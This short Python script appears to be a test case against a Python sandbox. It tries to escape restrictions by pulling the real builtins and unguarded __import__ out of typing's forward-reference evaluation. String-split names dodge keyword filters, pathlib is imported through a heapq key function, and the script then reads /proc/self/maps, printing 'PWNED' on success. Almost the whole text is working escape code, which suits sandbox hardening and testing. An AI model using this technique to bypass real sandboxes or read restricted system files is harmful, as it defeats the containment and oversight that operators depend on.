# fs: pathlib (not allowed) read_text of /proc, imported from a stdlib frame
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import heapq
heapq.nsmallest(1, ["pathlib"], key=imp)
pl = imp("pathlib")
try:
    print(M, pl.Path("/proc/self/maps").read_text()[:80])
except Exception as e:
    print("refused:", type(e).__name__, e)
